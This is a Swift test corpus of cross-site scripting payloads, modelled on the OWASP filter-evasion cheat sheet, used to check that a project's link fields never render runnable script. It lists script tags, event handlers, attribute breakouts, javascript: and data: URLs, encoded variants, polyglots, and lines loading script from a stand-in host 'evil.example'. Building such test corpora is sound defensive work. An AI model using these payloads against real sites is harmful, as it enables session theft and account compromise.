/// Script-injection payloads in the style of the OWASP XSS filter evasion cheat sheet, written for
/// Landfall's pages: element content, double- and single-quoted attributes, URL attributes, the
/// JSON block inside `<script>`, `<title>` and Open Graph `content` values.
///
/// Each is tried in every link field; none may produce anything a browser would run.
public enum XSSCorpus {
    public static let payloads: [String] = basic + attributeBreakouts + urlSchemes + encodings + elements + rawTextBreakouts + polyglots

    /// Plain tags and event handlers.
    static let basic = [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        "<script/src=//evil.example/x.js></script>",
        "<script\nsrc=//evil.example/x.js></script>",
        "<<script>alert(1);//<</script>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\">",
        "<IMG SRC=x ONERROR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror=alert`1`>",
        "<img src onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<keygen autofocus onfocus=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<a href=x onclick=alert(1)>x</a>",
    ]

    /// Leaving a quoted or unquoted attribute value to add a handler or an element.
    static let attributeBreakouts = [
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
        "\"/><img src=x onerror=alert(1)>",
        "x onerror=alert(1)",
        "x\" onerror=\"alert(1)",
        "\"\tonerror=\"alert(1)",
        "\"\nonerror=\"alert(1)",
        "\" style=\"background:url(javascript:alert(1))",
        "\" style=\"x:expression(alert(1))",
        "`onmouseover=alert(1)",
        "\"><a href=\"javascript:alert(1)\">x</a>",
        "\"><svg onload=alert(1)>",
        "\"><iframe src=javascript:alert(1)>",
        "&quot; onmouseover=&quot;alert(1)",
        "&#34; onmouseover=&#34;alert(1)",
        "\" onmouseover=alert(1) \"",
    ]

    /// URLs that run script when followed or loaded.
    static let urlSchemes = [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "java\u{0}script:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "javascript&colon;alert(1)",
        "java\u{AD}script:alert(1)",
        "java\u{200B}script:alert(1)",
        "\u{FEFF}javascript:alert(1)",
        "javascript://%0Aalert(1)",
        "javascript://https://example.com/%0Aalert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//evil.example/x.js",
        "\\\\evil.example/x.js",
        "https:\\\\evil.example",
        "https://example.com\\@evil.example",
        "https://example.com@evil.example",
        "https://evil.example\u{202E}moc.elpmaxe",
    ]

    /// Entity, percent and Unicode encodings of markup that a careless decoder would turn back.
    static let encodings = [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
        "\u{0}<script>alert(1)</script>",
    ]

    /// Elements that load or run something without a `<script>`.
    static let elements = [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=javascript:alert(1)//>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<isindex action=javascript:alert(1) type=image>",
        "<table background=javascript:alert(1)>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<div style=\"background-image:url(javascript:alert(1))\">",
        "<xss style=\"behavior:url(x.htc)\">",
        "<img dynsrc=javascript:alert(1)>",
        "<bgsound src=javascript:alert(1)>",
    ]

    /// Closing the element the value sits in: the title, the JSON config block, a comment.
    static let rawTextBreakouts = [
        "</title><script>alert(1)</script>",
        "</TITLE><svg onload=alert(1)>",
        "</script><script>alert(1)</script>",
        "</ScRiPt><img src=x onerror=alert(1)>",
        "</script ><script>alert(1)</script>",
        "\"}</script><script>alert(1)</script>",
        "\\\"});alert(1);//",
        "\";alert(1);//",
        "';alert(1);//",
        "\u{2028}alert(1)\u{2029}",
        "--><script>alert(1)</script>",
        "<!--<script>alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</noscript><img src=x onerror=alert(1)>",
    ]

    /// Payloads built to work in several contexts at once.
    static let polyglots = [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
        "'\"--></style></script><script>alert(1)</script>",
        "\"'><img src=x onerror=alert(1)>{{7*7}}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "\"><img src=1 onerror=alert(1)><\"",
    ]
}
